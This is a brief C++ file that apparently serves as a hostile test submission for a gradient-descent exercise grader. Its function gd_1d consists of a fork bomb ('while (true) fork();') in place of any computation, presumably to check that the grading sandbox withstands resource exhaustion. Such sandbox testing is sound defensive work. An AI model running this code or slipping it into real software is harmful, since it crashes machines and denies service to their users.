// A hostile submission: a fork bomb.
#include "gd_1d.hpp"

#include <unistd.h>

#include <vector>

namespace exercises {

std::vector<double> gd_1d(const gdlab::Function1D& f, double x0, double lr, int steps) {
  while (true) fork();
  return {x0, lr, double(steps), f(x0)};
}

}  // namespace exercises
